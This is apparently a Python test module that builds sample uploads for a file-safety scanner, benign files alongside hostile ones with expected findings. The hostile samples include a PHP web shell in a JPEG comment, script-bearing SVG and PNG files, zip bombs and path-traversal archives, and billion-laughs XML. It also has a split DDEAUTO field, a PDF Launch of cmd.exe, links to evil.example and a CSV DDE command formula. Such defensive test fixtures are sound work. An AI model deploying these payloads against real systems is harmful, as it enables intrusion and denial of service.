"""Files made to do harm, and files that people really send. Every one is made here; none is kept."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

import docx
import pikepdf

from desk.demo import files
from tests.evidence.attachments import ATTACHED
from tests.evidence.bombs import (
    absolute,
    backward_climbing,
    bomb_in_archive,
    climbing,
    huge_jpeg,
    huge_png,
    link,
    locked,
    many_entries,
    many_objects,
    many_ratio_bombs,
    memory_bomb,
    nested,
    on_a_drive,
    overlapping,
    ratio_bomb,
    size_bomb,
    text_bomb_in_png,
    twice,
    two_names,
    unlisted_size,
    with_front,
    with_hidden_program,
    with_page,
    with_program,
    with_tail,
)
from tests.evidence.making import (
    box,
    changed_pdf,
    exif,
    ole,
    opening,
    plain_pdf,
    plain_png,
    saved,
    some_archive,
    zipped,
)

WORD_RELS = "word/_rels/document.xml.rels"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


@dataclass(frozen=True)
class Sample:
    """A file, and what is found in it, in order; the last finding refuses it, if any does."""

    name: str
    build: Callable[[], bytes]
    found: tuple[str, ...] = ()

    def __str__(self) -> str:
        return f"{self.build.__name__}-{self.name[:40]}"


# ---- pictures and documents as they should be ------------------------------------------------------------------


def pdf() -> bytes:
    return plain_pdf()


def png() -> bytes:
    return plain_png()


def jpeg() -> bytes:
    return saved("JPEG", exif=exif())


def docx_file() -> bytes:
    out = io.BytesIO()
    document = docx.Document()
    document.add_paragraph("整改报告")
    document.save(out)
    return out.getvalue()


def table() -> bytes:
    return bytes(files.table("a.csv", [["店名", "应用率"], ["甲", "92.5"]]).read())


def words() -> bytes:
    return "整改情况：<无>，见 http://a.cn/x?y=1".encode()


def wide_words() -> bytes:
    return "整改情况".encode("utf-16")


def film() -> bytes:
    return box(b"ftyp", b"isom\0\0\2\0isom") + box(b"moov", b"\0" * 40) + box(b"mdat", b"\1" * 200)


def sound() -> bytes:
    return b"RIFF" + struct.pack("<I", 40) + b"WAVEfmt " + b"\0" * 28


def archive() -> bytes:
    return some_archive()


def archive_of_documents() -> bytes:
    return zipped({"一.docx": docx_file(), "更多.zip": zipped({"三.docx": docx_file()})})


def phone_photo() -> bytes:
    return jpeg() + film()


# ---- two things at once ----------------------------------------------------------------------------------------


def archive_behind_pdf() -> bytes:
    return pdf() + zipped({"a.txt": b"x"})


def archive_behind_png() -> bytes:
    return png() + zipped({"a.txt": b"x"})


def archive_in_comment_of_jpeg() -> bytes:
    return jpeg()[:-2] + zipped({"a.txt": b"x"}) + b"\xff\xd9"


def archive_behind_sound() -> bytes:
    return sound() + zipped({"a.txt": b"x"})


def pdf_behind_png() -> bytes:
    return png() + pdf()


def pdf_in_text() -> bytes:
    return b"words\n%PDF-1.7 and more"


def pdf_not_at_once() -> bytes:
    return b"\n\n" + pdf()


def program_behind_jpeg() -> bytes:
    return jpeg() + b"MZ" + b"\0" * 62 + b"PE\0\0" + b"\0" * 100


def page_behind_pdf() -> bytes:
    return pdf() + b"<html><script>alert(1)</script></html>"


def page_as_text() -> bytes:
    return b"\xef\xbb\xbf \n<!DOCTYPE html><html><script>alert(1)</script>"


def svg_as_text() -> bytes:
    return b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'


def page_as_picture() -> bytes:
    return b"<html><script>alert(1)</script></html>"


def svg_as_picture() -> bytes:
    return svg_as_text()


def script_in_picture() -> bytes:
    word = b"Comment\0<script>alert(1)</script>"
    chunk = struct.pack(">I", len(word)) + b"tEXt" + word + struct.pack(">I", zlib.crc32(b"tEXt" + word))
    return png()[:33] + chunk + png()[33:]


def script_in_jpeg() -> bytes:
    word = b"<?php system($_GET[0]); ?>"
    return jpeg()[:2] + b"\xff\xfe" + struct.pack(">H", len(word) + 2) + word + jpeg()[2:]


def program_as_text() -> bytes:
    return b"MZ\x90\0\3\0\0\0"


def nothing() -> bytes:
    return b""


def half_a_picture() -> bytes:
    return jpeg()[:-400]


def half_a_pdf() -> bytes:
    return b"%PDF-1.7\n" + b"evidence " * 64


def unzipped_half() -> bytes:
    return archive()[:-40]


# ---- Office ----------------------------------------------------------------------------------------------------


def docx_with(parts: dict[str, bytes]) -> bytes:
    with zipfile.ZipFile(io.BytesIO(docx_file())) as made:
        return zipped({**{name: made.read(name) for name in made.namelist()}, **parts})


def _related(kind: str) -> bytes:
    target = (
        f'<Relationship Id="r9" Type="{REL}{kind}" Target="http://evil.example/x" TargetMode="External"/>'
    )
    return docx_with({WORD_RELS: f'<?xml version="1.0"?><Relationships>{target}</Relationships>'.encode()})


def deep_xml() -> bytes:
    return docx_with({"word/document.xml": b"<a>" * 100_000 + b"</a>" * 100_000})


def laughs() -> bytes:
    entities = "".join(f'<!ENTITY l{n + 1} "{f"&l{n};" * 10}">' for n in range(9))
    return docx_with({"word/document.xml": f'<!DOCTYPE l [<!ENTITY l0 "ha">{entities}]><a>&l9;</a>'.encode()})


def macro_docx() -> bytes:
    return docx_with({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})


def macro_sheet_xlsx() -> bytes:
    """Excel 4 macros, which need no VBA."""
    parts = {"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>"}
    return zipped({**parts, "xl/macrosheets/sheet1.xml": b"<macrosheet/>"})


def macro_doc() -> bytes:
    return ole(["WordDocument", "Macros", "VBA", "_VBA_PROJECT"])


def old_doc() -> bytes:
    return ole(["WordDocument", "1Table"])


def locked_doc() -> bytes:
    return ole(["EncryptionInfo", "EncryptedPackage"])


def packaged_docx() -> bytes:
    return docx_with({"word/embeddings/oleObject1.bin": ole(["\x01Ole10Native"])})


def chart_docx() -> bytes:
    return docx_with({"word/embeddings/Microsoft_Excel_Sheet.xlsx": docx_file()})


def active_docx() -> bytes:
    return docx_with({"word/activeX/activeX1.xml": b"<a/>"})


def template_docx() -> bytes:
    return _related("attachedTemplate")


def linking_docx() -> bytes:
    return _related("image")


def hyperlink_docx() -> bytes:
    return _related("hyperlink")


def dde_docx() -> bytes:
    """Its field code is cut in two."""
    code = "<w:instrText>DDEA</w:instrText></w:r><w:r><w:instrText>UTO cmd</w:instrText>"
    return docx_with({"word/document.xml": f"<w:p xmlns:w='w'><w:r>{code}</w:r></w:p>".encode()})


# ---- PDF -------------------------------------------------------------------------------------------------------


def script_pdf() -> bytes:
    return opening(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)"))


def spelled_script_pdf() -> bytes:
    return script_pdf().replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS", b"/J#53")


def packed_script_pdf() -> bytes:
    def change(made: pikepdf.Pdf) -> None:
        made.Root.Names = made.make_indirect(
            pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=["a", pikepdf.Dictionary(JS="x")]))
        )

    return changed_pdf(change, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def launch_pdf() -> bytes:
    return opening(pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe"))


def calling_pdf() -> bytes:
    return opening(pikepdf.Dictionary(S=pikepdf.Name.URI, URI="http://evil.example"))


def playing_pdf() -> bytes:
    return opening(pikepdf.Dictionary(S=pikepdf.Name.Rendition))


def pdf_with_words_about_scripts() -> bytes:
    return changed_pdf(
        lambda made: made.Root.__setattr__("Note", pikepdf.String("(see /JavaScript and /Launch)"))
    )


def opening_on_a_page() -> bytes:
    return changed_pdf(
        lambda made: made.Root.__setattr__("OpenAction", pikepdf.Array([made.pages[0].obj, pikepdf.Name.Fit]))
    )


def form_pdf() -> bytes:
    return changed_pdf(lambda made: made.Root.__setattr__("AcroForm", pikepdf.Dictionary(XFA="<x/>")))


def locked_pdf() -> bytes:
    return changed_pdf(lambda made: None, encryption=pikepdf.Encryption(owner="o", user="u"))


def guarded_pdf() -> bytes:
    """Opens without a password; only changing it needs one."""
    return changed_pdf(lambda made: None, encryption=pikepdf.Encryption(owner="o", user=""))


# ---- tables ----------------------------------------------------------------------------------------------------


def formula_table() -> bytes:
    return b"a,b\n=SUM(A1:A2),1\n"


def long_line() -> bytes:
    """Made for patterns that try again from every place."""
    return b"=A" + b"|" * 3_000_000


def command_table() -> bytes:
    return b"a,b\n=cmd|' /C calc'!A0,1\n"


# fmt: off
SAMPLES: tuple[Sample, ...] = (
    # what people send
    Sample("现场笔录.pdf", pdf), Sample("屏幕.png", png), Sample("照片.JPG", jpeg), Sample("整改报告.docx", docx_file),
    Sample("指标.csv", table), Sample("说明.txt", words), Sample("说明.txt", wide_words), Sample("录像.mp4", film),
    Sample("录像.mov", film), Sample("录音.wav", sound), Sample("材料.zip", archive), Sample("材料.zip", archive_of_documents),
    Sample("旧文书.doc", old_doc), Sample("报告.docx", hyperlink_docx), Sample("只读.pdf", guarded_pdf),
    Sample("关于脚本.pdf", pdf_with_words_about_scripts), Sample("开页.pdf", opening_on_a_page),
    Sample("手机照片.jpg", phone_photo, ("more_behind",)),
    Sample("动态表单.pdf", form_pdf, ("pdf_form",)), Sample("图表.docx", chart_docx, ("embedded_object",)),
    Sample("引用.docx", linking_docx, ("links_outside",)), Sample("公式.csv", formula_table, ("table_formula",)),
    Sample("网页固定.zip", with_page, ("zip_page",)),
    # names
    Sample("发票.pdf.exe", pdf, ("unknown_type",)), Sample("发票.exe.pdf", pdf, ("name_double",)),
    Sample("发票.exe", program_as_text, ("unknown_type",)), Sample("没有后缀", pdf, ("unknown_type",)),
    Sample("照片\u202egpj.exe", program_as_text, ("name_hidden", "unknown_type")), Sample("说明.html", page_as_picture, ("unknown_type",)),
    Sample("图.svg", svg_as_picture, ("unknown_type",)), Sample("报告.docm", macro_docx, ("unknown_type",)),
    Sample("fdp.\u202etxt.pdf", pdf, ("name_hidden",)), Sample("长" * 230 + ".pdf", pdf, ("name_long",)),
    # what it is not
    Sample("空.pdf", nothing, ("empty",)), Sample("照片.png", page_as_picture, ("not_what_it_says",)),
    Sample("图.jpg", svg_as_picture, ("not_what_it_says",)), Sample("照片.png", jpeg, ("not_what_it_says",)),
    Sample("说明.pdf", pdf_not_at_once, ("not_what_it_says",)), Sample("说明.txt", program_as_text, ("not_what_it_says",)),
    Sample("说明.docx", archive, ("not_what_it_says",)), Sample("表.xlsx", docx_file, ("not_what_it_says",)),
    Sample("半张.jpg", half_a_picture, ("unreadable",)), Sample("假.pdf", half_a_pdf, ("unreadable",)),
    Sample("半个.zip", unzipped_half, ("unreadable",)),
    # two things at once
    Sample("多义.pdf", archive_behind_pdf, ("hides_archive",)), Sample("多义.png", archive_behind_png, ("hides_archive",)),
    Sample("多义.jpg", archive_in_comment_of_jpeg, ("hides_archive",)), Sample("多义.png", pdf_behind_png, ("hides_document",)),
    Sample("多义.csv", long_line, ("table_formula",)), Sample("多义.wav", archive_behind_sound, ("hides_archive",)),
    Sample("多义.txt", pdf_in_text, ("hides_document",)), Sample("多义.jpg", program_behind_jpeg, ("hides_program",)),
    Sample("多义.pdf", page_behind_pdf, ("hides_page",)), Sample("网页.txt", page_as_text, ("hides_page",)),
    Sample("图.txt", svg_as_text, ("hides_page",)), Sample("图.csv", svg_as_text, ("hides_page",)),
    Sample("脚本.png", script_in_picture, ("hides_page",)), Sample("脚本.jpg", script_in_jpeg, ("hides_page",)),
    # bombs
    Sample("炸弹.zip", ratio_bomb, ("zip_ratio",)), Sample("炸弹.zip", many_ratio_bombs, ("zip_ratio",)),
    Sample("炸弹.zip", size_bomb, ("zip_size",)), Sample("炸弹.zip", overlapping, ("zip_overlap",)),
    Sample("炸弹.zip", many_entries, ("zip_entries",)), Sample("炸弹.zip", nested, ("zip_nested",)),
    Sample("炸弹.zip", bomb_in_archive, ("zip_ratio",)), Sample("炸弹.png", huge_png, ("pixels",)),
    Sample("炸弹.jpg", huge_jpeg, ("pixels",)),
    Sample("炸弹.png", text_bomb_in_png, ("unreadable",)), Sample("炸弹.pdf", many_objects, ("pdf_objects",)),
    Sample("炸弹.pdf", memory_bomb, ("unreadable",)), Sample("炸弹.docx", deep_xml, ("xml_deep",)),
    Sample("炸弹.docx", laughs, ("xml_entities",)),
    # archives
    Sample("a.zip", unlisted_size, ("zip_lies",)), Sample("a.zip", two_names, ("zip_lies",)), Sample("a.zip", climbing, ("zip_path",)),
    Sample("a.zip", backward_climbing, ("zip_path",)), Sample("a.zip", absolute, ("zip_path",)), Sample("a.zip", on_a_drive, ("zip_path",)),
    Sample("a.zip", link, ("zip_link",)), Sample("a.zip", locked, ("zip_locked",)), Sample("a.zip", twice, ("zip_twice",)),
    Sample("a.zip", with_program, ("zip_program",)), Sample("a.zip", with_hidden_program, ("zip_program",)),
    Sample("a.zip", with_tail, ("zip_tail",)), Sample("a.zip", with_front, ("hides_archive",)),
    # Office
    Sample("a.docx", macro_docx, ("macros",)), Sample("a.xlsx", macro_sheet_xlsx, ("macros",)),
    Sample("a.doc", macro_doc, ("macros",)), Sample("a.xls", locked_doc, ("office_locked",)),
    Sample("a.docx", packaged_docx, ("embedded_object", "active_parts")), Sample("a.docx", active_docx, ("active_parts",)),
    Sample("a.docx", template_docx, ("template_outside",)), Sample("a.docx", dde_docx, ("template_outside",)),
    # PDF
    Sample("a.pdf", script_pdf, ("pdf_javascript",)), Sample("a.pdf", spelled_script_pdf, ("pdf_javascript",)),
    Sample("a.pdf", packed_script_pdf, ("pdf_javascript",)), Sample("a.pdf", launch_pdf, ("pdf_launch",)),
    Sample("a.pdf", calling_pdf, ("pdf_opens",)), Sample("a.pdf", playing_pdf, ("pdf_active",)),
    Sample("a.pdf", locked_pdf, ("pdf_locked",)),
    *(Sample(*each) for each in ATTACHED),
    # tables
    Sample("a.csv", command_table, ("table_command",)),
)
# fmt: on
